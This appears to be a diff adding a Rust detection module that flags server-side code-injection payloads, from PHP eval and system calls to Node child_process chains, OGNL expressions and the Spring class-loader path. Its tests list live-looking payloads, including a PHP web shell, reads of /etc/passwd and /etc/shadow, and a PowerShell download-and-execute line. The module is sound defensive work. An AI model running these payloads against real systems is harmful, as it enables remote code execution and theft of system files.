@@ -1,0 +1,490 @@
+//! Values that an interpreter on the server would run: PHP, JavaScript, Python, Ruby, Perl, and
+//! the expression languages of Java.
+//!
+//! People post source code, so that code alone proves nothing. A finding is a chain of calls
+//! that reaches a process, the interpreter itself or a file of the system with an argument that
+//! fits, or a form that only an attack has.
+//!
+//! # What this does not protect from
+//!
+//! Code that stays within the application's own functions. In texts of several lines, which may
+//! be somebody's program, most chains only alert.
+
+use super::{CodeMatcher, Match, call};
+use crate::lexer::expression::{Lexer, Token};
+use crate::rule::Confidence::{self, Certain, Likely, Weak};
+
+/// A chain of calls that leaves the language.
+pub(super) static CALL: CodeMatcher = CodeMatcher { name: "code_call", find: code_call };
+/// A path of properties to the class loader, as a parameter's name.
+pub(super) static PROPERTY_PATH: CodeMatcher = CodeMatcher { name: "code_property_path", find: property_path };
+
+type Finding = (Confidence, &'static str);
+
+const RUNS: &str = "a call that runs a command";
+const EVALUATES: &str = "a call that evaluates code from a string";
+const REACHES: &str = "a chain of calls to the runtime";
+const OPENS: &str = "code that opens a file of the system";
+const PROBES: &str = "code that prints a known value, to see whether it runs";
+const LOOPS: &str = "code that never ends";
+
+fn code_call(value: &[u8]) -> Option<Match> {
+    let lines = memchr::memchr_iter(b'\n', value.trim_ascii()).take(4).count() > 3;
+    let most = |confidence: Confidence| if lines { confidence.min(Likely) } else { confidence };
+    if let Some(confidence) = endless_loop(value) {
+        return Some(Match::new(confidence, 0..value.len(), LOOPS));
+    }
+    let mut best: Option<Match> = php_tag(value)
+        .map(|(start, confidence)| Match::new(most(confidence), start..value.len(), "a PHP tag, which begins code"));
+    let mut lexer = Lexer::at(value, 0);
+    let mut before = [None; 3];
+    let mut start = 0;
+    while let Some(token) = lexer.next() {
+        let found = match token {
+            Token::Name(name) => name_step(value, name, before, &lexer, start),
+            Token::Mark(b'(') => group_step(before, &lexer),
+            Token::Mark(b'#' | b'@') => ognl(token, before, &lexer),
+            _ => None,
+        };
+        if let Some((confidence, structure)) = found {
+            let confidence = most(confidence);
+            if best.as_ref().is_none_or(|best| best.confidence < confidence) {
+                best = Some(Match::new(confidence, start..lexer.offset().min(value.len()), structure));
+            }
+            if confidence == Certain {
+                break;
+            }
+        }
+        before = [before[1], before[2], Some(token)];
+        start = lexer.offset();
+    }
+    best
+}
+
+fn name_step<'a>(
+    value: &[u8],
+    name: &[u8],
+    before: [Option<Token<'a>>; 3],
+    lexer: &Lexer<'a>,
+    start: usize,
+) -> Option<Finding> {
+    let called = lexer.ahead(0) == Some(Token::Mark(b'('));
+    let dotted = before[2] == Some(Token::Mark(b'.'));
+    let receiver = if dotted { before[1] } else { None };
+    let argument = if called { lexer.ahead(1) } else { None };
+    match name {
+        b"require" | b"import" | b"__import__" | b"load" if called => module(value, argument, lexer, start),
+        b"mainModule" if dotted => Some((Certain, REACHES)),
+        b"binding" if called && receiver == Some(Token::Name(b"process")) => Some((Certain, REACHES)),
+        b"process" if dotted && matches!(before[1], Some(Token::Name(b"global" | b"globalThis" | b"root"))) => {
+            (lexer.ahead(0) == Some(Token::Mark(b'.')) && !is_environment(lexer.ahead(1))).then_some((Certain, REACHES))
+        }
+        b"exit" | b"kill" if called && receiver == Some(Token::Name(b"process")) => {
+            Some((if breaks_out(value, start) { Certain } else { Weak }, REACHES))
+        }
+        b"constructor" | b"Function" if called => constructor(name, receiver, argument),
+        b"getRuntime" if called => {
+            let exec = [b')', b'.'].iter().zip(1..).all(|(&mark, skip)| lexer.ahead(skip) == Some(Token::Mark(mark)));
+            (exec && matches!(lexer.ahead(3), Some(Token::Name(b"exec" | b"load" | b"halt" | b"exit"))))
+                .then_some((Certain, RUNS))
+        }
+        b"ProcessBuilder" if called || dotted => new_process(before, lexer),
+        b"ScriptEngineManager" if called && !matches!(before[2], Some(Token::Mark(b';'))) => Some((Certain, EVALUATES)),
+        b"T" if called && matches!(before[2], None | Some(Token::Mark(_))) => {
+            call::named(&skip(lexer, 1)).then_some((Certain, REACHES))
+        }
+        b"eval" | b"assert" | b"exec" | b"execScript" | b"setTimeout" if called => {
+            evaluates(argument, lexer).or_else(|| runs(name, receiver, argument, lexer))
+        }
+        b"call_user_func"
+        | b"call_user_func_array"
+        | b"array_map"
+        | b"array_filter"
+        | b"usort"
+        | b"register_shutdown_function"
+            if called =>
+        {
+            matches!(argument, Some(Token::Text(function)) if call::runs_commands(function)).then_some((Certain, RUNS))
+        }
+        b"print" | b"print_r" | b"echo" | b"die" | b"var_dump" | b"printf" | b"exit" => probe(lexer),
+        b"phpinfo" if called && argument == Some(Token::Mark(b')')) && stands_alone(value, start) => {
+            Some((Certain, REACHES))
+        }
+        b"file_get_contents" | b"readfile" | b"fopen" | b"file" | b"show_source" | b"highlight_file" | b"scandir"
+        | b"include" | b"include_once" | b"require_once" | b"readFileSync" | b"readFile" | b"readdirSync" | b"open"
+        | b"opendir"
+            if call::names_system_file(lexer) =>
+        {
+            Some((Certain, OPENS))
+        }
+        b"DownloadString" | b"DownloadFile" if dotted && called => {
+            matches!(argument, Some(Token::Text(url)) if url.starts_with(b"http")).then_some((Certain, RUNS))
+        }
+        b"popen" if called && receiver == Some(Token::Name(b"IO")) => Some((Certain, RUNS)),
+        b"x" if before[2] == Some(Token::Mark(b'%')) && called => call::is_command(argument).then_some((Certain, RUNS)),
+        _ if called && call::runs_commands(name) => runs(name, receiver, argument, lexer),
+        _ => None,
+    }
+}
+
+fn skip<'a>(lexer: &Lexer<'a>, count: usize) -> Lexer<'a> {
+    let mut copy = *lexer;
+    for _ in 0..count {
+        copy.next();
+    }
+    copy
+}
+
+const fn is_environment(token: Option<Token<'_>>) -> bool {
+    matches!(token, Some(Token::Name(b"env" | b"platform" | b"version" | b"argv")))
+}
+
+/// `require('child_process').exec(..)`: a module of the system, and at once a call on it.
+fn module(value: &[u8], argument: Option<Token<'_>>, lexer: &Lexer<'_>, start: usize) -> Option<Finding> {
+    let Some(Token::Text(module)) = argument else { return None };
+    let module = module.strip_prefix(b"node:").unwrap_or(module);
+    let (used, method) = (lexer.ahead(3) == Some(Token::Mark(b'.')), lexer.ahead(4));
+    let imported = value.get(..start)?.iter().rev().take(16).any(|&byte| byte == b'_');
+    match module {
+        b"child_process" if used => Some((Certain, RUNS)),
+        b"child_process" if lexer.ahead(3).is_none() && start == 0 => Some((Likely, RUNS)),
+        b"os" | b"subprocess" | b"commands" | b"pty" if used => {
+            let runs = matches!(method, Some(Token::Name(name)) if call::runs_commands(name) || matches!(name, b"run" | b"call" | b"spawn" | b"environ" | b"listdir"));
+            (runs && !imported).then_some((Certain, RUNS))
+        }
+        b"fs" if used => {
+            let reads =
+                matches!(method, Some(Token::Name(name)) if name.starts_with(b"read") || name.starts_with(b"write"));
+            let rest = skip(lexer, 5);
+            (reads && (call::names_system_file(&rest) || answers(value, start))).then_some((Certain, OPENS))
+        }
+        b"socket" if used => Some((Likely, REACHES)),
+        _ => None,
+    }
+}
+
+/// `res.end(require('fs').readdirSync('.'))`.
+fn answers(value: &[u8], start: usize) -> bool {
+    let before = value.get(start.saturating_sub(24)..start).unwrap_or_default();
+    ["res.end(", "res.send(", "res.write(", "response.end("].iter().any(|call| before.ends_with(call.as_bytes()))
+}
+
+fn constructor(name: &[u8], receiver: Option<Token<'_>>, argument: Option<Token<'_>>) -> Option<Finding> {
+    let Some(Token::Text(code)) = argument else { return None };
+    let twice = name == b"constructor" && receiver == Some(Token::Name(b"constructor"));
+    let returns = code.trim_ascii_start().starts_with(b"return ");
+    let reaches = ["process", "global", "require", "child_process"]
+        .iter()
+        .any(|word| memchr::memmem::find(code, word.as_bytes()).is_some());
+    (twice || returns && reaches).then_some((Certain, EVALUATES))
+}
+
+/// `new java.lang.ProcessBuilder(..)`, `new ProcessBuilder(..).start()`.
+fn new_process(before: [Option<Token<'_>>; 3], lexer: &Lexer<'_>) -> Option<Finding> {
+    let qualified = before[1] == Some(Token::Name(b"lang"));
+    let constant = matches!(lexer.ahead(1), Some(Token::Text(_) | Token::Mark(b'{') | Token::Name(b"new")));
+    (qualified || constant && before[2] == Some(Token::Name(b"new"))).then_some((Certain, RUNS))
+}
+
+/// `eval(base64_decode(..))`, `eval($_POST[..])`: code that the value hides or fetches.
+fn evaluates(argument: Option<Token<'_>>, lexer: &Lexer<'_>) -> Option<Finding> {
+    let hidden = match argument? {
+        Token::Name(name) => {
+            let decodes =
+                DECODERS.iter().any(|decoder| decoder.as_bytes() == name) && lexer.ahead(2) == Some(Token::Mark(b'('));
+            let spelled = matches!(name, b"String" | b"Buffer")
+                && matches!(lexer.ahead(3), Some(Token::Name(b"fromCharCode" | b"from")));
+            decodes || spelled
+        }
+        Token::Mark(b'$') => is_request_variable(lexer.ahead(2)),
+        Token::Text(code) => {
+            let words = [
+                "import os",
+                "__import__",
+                "system(",
+                "exec(",
+                "child_process",
+                "phpinfo(",
+                "require(",
+                "import subprocess",
+            ];
+            words.iter().any(|word| memchr::memmem::find(code, word.as_bytes()).is_some())
+        }
+        _ => false,
+    };
+    hidden.then_some((Certain, EVALUATES))
+}
+
+const DECODERS: [&str; 16] = [
+    "base64_decode",
+    "gzinflate",
+    "gzuncompress",
+    "str_rot13",
+    "hex2bin",
+    "pack",
+    "chr",
+    "atob",
+    "compile",
+    "unescape",
+    "decodeURIComponent",
+    "convert_uudecode",
+    "strrev",
+    "urldecode",
+    "rawurldecode",
+    "implode",
+];
+
+fn is_request_variable(token: Option<Token<'_>>) -> bool {
+    matches!(
+        token,
+        Some(Token::Name(
+            b"_GET" | b"_POST" | b"_REQUEST" | b"_COOKIE" | b"_SERVER" | b"_FILES" | b"HTTP_RAW_POST_DATA"
+        ))
+    )
+}
+
+/// A function that runs commands, with a command.
+fn runs(name: &[u8], receiver: Option<Token<'_>>, argument: Option<Token<'_>>, lexer: &Lexer<'_>) -> Option<Finding> {
+    let request = argument == Some(Token::Mark(b'$')) && is_request_variable(lexer.ahead(2));
+    let listed = argument == Some(Token::Mark(b'[')) && call::is_command(lexer.ahead(2));
+    let closed = matches!(lexer.ahead(2), Some(Token::Mark(b')' | b',' | b'.' | b'(' | b'+' | b'-' | b'/')));
+    let fits = request || listed || closed && call::is_command(argument);
+    let known = matches!(
+        receiver,
+        None | Some(Token::Name(
+            b"os"
+                | b"subprocess"
+                | b"child_process"
+                | b"commands"
+                | b"Kernel"
+                | b"Process"
+                | b"runtime"
+                | b"r"
+                | b"cp"
+                | b"util"
+        )) | Some(Token::Mark(b')'))
+    );
+    match (fits && known, name) {
+        (true, b"eval" | b"assert") => request.then_some((Certain, EVALUATES)),
+        (true, b"exec") if receiver.is_none() && matches!(argument, Some(Token::Name(_))) => Some((Likely, RUNS)),
+        (true, _) => Some((Certain, RUNS)),
+        (false, b"shell_exec" | b"passthru" | b"proc_open" | b"pcntl_exec" | b"check_output") => Some((Likely, RUNS)),
+        _ => None,
+    }
+}
+
+/// `(..)('id')`: what a name in pieces, or a variable, is called with.
+fn group_step(before: [Option<Token<'_>>; 3], lexer: &Lexer<'_>) -> Option<Finding> {
+    let callee = match before {
+        [_, Some(Token::Text(_) | Token::Name(_)), Some(Token::Mark(b')'))] => true,
+        [_, _, Some(Token::Text(function))] => call::runs_commands(function),
+        [Some(Token::Mark(b'$')), ..] => false,
+        _ => false,
+    };
+    let command = matches!(lexer.ahead(0), Some(Token::Text(_) | Token::Name(_))) && call::is_command(lexer.ahead(0));
+    (callee && command && lexer.ahead(1) == Some(Token::Mark(b')'))).then_some((Certain, RUNS))
+}
+
+/// `print(md5(1))`, `echo md5('x')`: a scanner looks for the digest in the answer.
+fn probe(lexer: &Lexer<'_>) -> Option<Finding> {
+    let open = usize::from(lexer.ahead(0) == Some(Token::Mark(b'(')));
+    let digest = matches!(
+        lexer.ahead(open),
+        Some(Token::Name(b"md5" | b"sha1" | b"crc32" | b"base64_decode" | b"phpversion" | b"php_uname"))
+    );
+    let constant = matches!(lexer.ahead(open + 2), Some(Token::Text(_) | Token::Number(_) | Token::Mark(b')')));
+    (digest && constant && lexer.ahead(open + 1) == Some(Token::Mark(b'('))).then_some((Certain, PROBES))
+}
+
+/// OGNL: `#_memberAccess`, `(#x=..)`, `@java.lang.Runtime@getRuntime`.
+fn ognl(mark: Token<'_>, before: [Option<Token<'_>>; 3], lexer: &Lexer<'_>) -> Option<Finding> {
+    if mark == Token::Mark(b'#') {
+        let Some(Token::Name(name)) = lexer.ahead(0) else { return None };
+        let internal = matches!(name, b"_memberAccess" | b"_memberaccess" | b"xwork");
+        let assigned = before[2] == Some(Token::Mark(b'(')) && lexer.ahead(1) == Some(Token::Mark(b'='));
+        let context = matches!(name, b"context" | b"attr" | b"request" | b"dm" | b"application") && assigned;
+        let chained = assigned && matches!(before[1], Some(Token::Mark(b'{' | b'.')));
+        return (internal || context || chained).then_some((Certain, REACHES));
+    }
+    if !call::named(lexer) && !matches!(lexer.ahead(0), Some(Token::Name(b"ognl" | b"com"))) {
+        return None;
+    }
+    let mut copy = *lexer;
+    let class = copy.by_ref().take(16).find(|token| !matches!(token, Token::Name(_) | Token::Mark(b'.')));
+    (class == Some(Token::Mark(b'@')) && matches!(copy.next(), Some(Token::Name(_)))).then_some((Certain, REACHES))
+}
+
+/// `<?php`, `<?=`, with something behind it that a page does not do by chance.
+fn php_tag(value: &[u8]) -> Option<(usize, Confidence)> {
+    let start = memchr::memmem::find(value, b"<?")?;
+    let rest = value.get(start + 2..)?;
+    let rest = rest.get(..1024).unwrap_or(rest);
+    let named = rest.get(..3).is_some_and(|tag| tag.eq_ignore_ascii_case(b"php"));
+    let short = rest.first() == Some(&b'=');
+    if !named && !short {
+        return None;
+    }
+    let acts = [
+        "$_GET",
+        "$_POST",
+        "$_REQUEST",
+        "$_COOKIE",
+        "eval(",
+        "system(",
+        "exec(",
+        "passthru(",
+        "phpinfo(",
+        "base64_decode(",
+        "assert(",
+        "file_get_contents(",
+        "file_put_contents(",
+        "popen(",
+        "`",
+    ];
+    let found = acts.iter().any(|act| memchr::memmem::find(rest, act.as_bytes()).is_some());
+    Some((start, if found { Certain } else { Likely }))
+}
+
+/// `while(1){}`, `for(;;){}` as the whole value, up to quotes and closing marks.
+fn endless_loop(value: &[u8]) -> Option<Confidence> {
+    let junk = |byte: &u8| byte.is_ascii_whitespace() || b"'\";)}/+".contains(byte);
+    let start = value.iter().position(|byte| !junk(byte))?;
+    let rest = value.get(start..)?;
+    if !rest.starts_with(b"while") && !rest.starts_with(b"for") || value.len() > 128 {
+        return None;
+    }
+    let mut compact = rest.iter().copied().filter(|byte| !byte.is_ascii_whitespace());
+    let mut buffer = [0_u8; 64];
+    let length = buffer.iter_mut().zip(&mut compact).map(|(slot, byte)| *slot = byte).count();
+    let text = buffer.get(..length)?;
+    let heads: [&[u8]; 5] = [b"while(1)", b"while(true)", b"while(!0)", b"for(;;)", b"for(;true;)"];
+    let body = heads.iter().find_map(|head| text.strip_prefix(*head))?;
+    (body.starts_with(b"{}") || body.starts_with(b";") || body.is_empty()).then_some(Certain)
+}
+
+/// The value ends a string or statement of the code around it: a quote or mark comes first.
+fn breaks_out(value: &[u8], start: usize) -> bool {
+    let before = value.get(..start.min(24)).unwrap_or_default().trim_ascii_start();
+    matches!(before.first(), Some(b'\'' | b'"' | b'`' | b';' | b')' | b'}' | b'-' | b'+'))
+}
+
+/// No sentence stands around it.
+fn stands_alone(value: &[u8], start: usize) -> bool {
+    let near = value.get(start.saturating_sub(100)..value.len().min(start + 100)).unwrap_or_default();
+    let word = |word: &&[u8]| word.len() > 1 && word.iter().all(u8::is_ascii_alphabetic);
+    near.split(u8::is_ascii_whitespace).filter(word).count() < 3
+}
+
+/// `class.module.classLoader.resources..`: what Spring binds parameters to (CVE-2022-22965).
+fn property_path(value: &[u8]) -> Option<Match> {
+    let start = memchr::memmem::find(value, b"lass")?;
+    let mut lexer = Lexer::at(value, start.checked_sub(1)?);
+    if !matches!(lexer.next()?, Token::Name(b"class" | b"Class")) {
+        return None;
+    }
+    for _ in 0..8 {
+        match lexer.next()? {
+            Token::Name(b"module") | Token::Text(b"module") | Token::Mark(b'.' | b'[' | b']') => {}
+            Token::Name(b"classLoader" | b"protectionDomain") | Token::Text(b"classLoader" | b"protectionDomain") => {
+                let more = matches!(lexer.next(), Some(Token::Mark(b'.' | b'[' | b']' | b'=')) | None);
+                return more
+                    .then(|| Match::new(Certain, start - 1..value.len(), "a path of properties to the class loader"));
+            }
+            _ => return None,
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn confidence(value: &str) -> Option<Confidence> {
+        let found = code_call(value.as_bytes()).into_iter().chain(property_path(value.as_bytes()));
+        found.map(|found| found.confidence).max()
+    }
+
+    #[test]
+    fn code_that_reaches_the_system_is_certain() {
+        for value in [
+            ";system('id')",
+            ";system(\"cat /etc/passwd\");//",
+            "';phpinfo();//",
+            "${@print(md5(1))}",
+            "echo md5('x');",
+            "eval(base64_decode('cGhwaW5mbygpOw=='))",
+            "<?php system($_GET['c']); ?>",
+            "<?=`id`?>",
+            "assert($_POST['x'])",
+            "call_user_func('system','id')",
+            "(system)('id')",
+            "('sys'.'tem')('id')",
+            "system(whoami)",
+            "require('child_process').exec('id')",
+            "require(\"child_process\").execSync('ls').toString()",
+            "global.process.mainModule.require('child_process')",
+            "process.binding('spawn_sync')",
+            "this.constructor.constructor('return process')()",
+            "res.end(require('fs').readFileSync('/etc/passwd'))",
+            "res.end(require('fs').readdirSync('.').toString())",
+            "';process.exit();//",
+            "while(1){}",
+            "';while(true){};'",
+            "eval(String.fromCharCode(97,108))",
+            "T(java.lang.Runtime).getRuntime().exec('id')",
+            "new java.lang.ProcessBuilder({'id'}).start()",
+            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
+            "new javax.script.ScriptEngineManager().getEngineByName('js')",
+            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
+            "class['module']['classLoader']",
+            "__import__('os').system('id')",
+            "os.system('cat /etc/shadow')",
+            "subprocess.check_output(['id'])",
+            "eval(compile('x','y','exec'))",
+            "exec('import os')",
+            "open('/etc/passwd').read()",
+            "IO.popen('id').read",
+            "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
+            "file_get_contents('/etc/passwd')",
+        ] {
+            assert_eq!(confidence(value), Some(Certain), "{value}");
+        }
+    }
+
+    #[test]
+    fn source_code_and_prose_are_not() {
+        for value in [
+            "const fs = require('fs');",
+            "const { exec } = require('child_process');",
+            "import os, sys",
+            "import subprocess",
+            "the system (id 5) is down",
+            "call phpinfo() to see the version",
+            "const m = /x/.exec('ls')",
+            "re.exec(line)",
+            "eval(code) is evil",
+            "print('hello')",
+            "while (i < 10) { i += 1 }",
+            "for (;;) { work(); }",
+            "use std::process::Command; Command::new(\"ls\")",
+            "class Loader { }",
+            "first class. module one",
+            "public class Main { public static void main(String[] a) {} }",
+            "process.env.HOME",
+            "global.process.env.NODE_ENV",
+            "open('report.txt').read()",
+            "assert(x == 1)",
+            "spawn(move || work())",
+            "(function () { return 1; })()",
+            "#include <stdio.h>",
+            "issue #12 (see #x)",
+            "ann@example.org and bob@java.example",
+            "system(s) and exec(utive) roles",
+            "<?xml version=\"1.0\"?>",
+            "function (x) { return new Function(x) }",
+        ] {
+            assert!(confidence(value) < Some(Certain), "{value} {:?}", code_call(value.as_bytes()));
+        }
+    }
+}
